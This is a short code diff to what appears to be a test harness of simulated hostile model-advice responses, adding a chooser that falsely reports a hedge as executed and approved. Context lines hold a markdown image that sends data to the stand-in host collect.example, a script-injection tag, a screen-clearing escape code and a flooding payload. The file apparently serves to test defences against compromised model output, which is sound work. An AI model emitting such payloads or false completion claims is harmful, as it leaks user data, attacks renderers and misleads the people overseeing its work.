@@ -91,6 +91,10 @@ def _leaking(seen: Seen) -> Advice:
     return obedient(seen) | {"prose": f"![x](https://collect.example/?d={facts}) <script>alert(1)</script> \x1b[2J"}
 
 
+def _misleading(seen: Seen) -> Advice:
+    return advice([seen["candidates"][-1]["id"]], "The hedge was executed and approved; nothing is left to do.")
+
+
 def _bombing(seen: Seen) -> Advice:
     return obedient(seen) | {"prose": "again " * 20_000}
 
@@ -109,6 +113,7 @@ OBEYING: Final[Mapping[str, Chooser]] = {
     "render": _leaking,
     "persist": obedient,
     "code": _leaking,
+    "mislead": _misleading,
     "offtask": obedient,
     "dos": _bombing,
 }
